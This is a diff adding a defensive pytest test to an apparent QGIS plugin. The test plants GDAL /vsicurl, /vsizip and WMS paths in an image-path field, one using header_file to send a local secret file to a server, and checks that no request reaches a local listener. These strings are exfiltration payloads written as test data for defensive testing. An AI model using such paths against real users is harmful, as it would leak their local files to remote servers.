@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import socket
 import sqlite3
 from collections.abc import Callable
 from contextlib import closing
@@ -220,6 +221,34 @@ def test_an_image_that_is_gone_is_told_and_nothing_else_happens(lines: QgsVector
     assert "edited" not in names
     review.reject.click()  # all the same
     assert in_file(lines)["edited"] == "rejected"
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/vsicurl?header_file={secret}&url={address}/x.tif",
+        "/vsicurl/{address}/x.tif",
+        "/vsizip//vsicurl/{address}/x.zip/x.tif",
+        "<GDAL_WMS><Service name='TMS'><ServerUrl>{address}</ServerUrl></Service></GDAL_WMS>",
+        "WMS:{address}",
+    ],
+)
+def test_no_server_is_asked_for_an_image_that_a_line_names(
+    lines: QgsVectorLayer, opens: Opens, qtbot: QtBot, tmp_path: Path, path: str
+):
+    """A stranger's lines could have a file of this computer sent to a server of theirs."""
+    secret = tmp_path / "secret"
+    secret.write_text("password: 1234\n", encoding="utf-8")
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        path = path.format(secret=secret, address=f"http://127.0.0.1:{server.getsockname()[1]}")
+        field = lines.fields().lookupField("ImagePath")
+        lines.dataProvider().changeAttributeValues({fid: {field: path} for fid in lines.allFeatureIds()})
+        review = opens(lines)
+        settle(review, qtbot)
+        assert "Images on servers" in review.told.text()
+        server.settimeout(0.2)
+        with pytest.raises(TimeoutError):
+            server.accept()
 
 
 def test_an_older_layer_gets_the_field_once_that_is_said(older: QgsVectorLayer, opens: Opens, qtbot: QtBot):
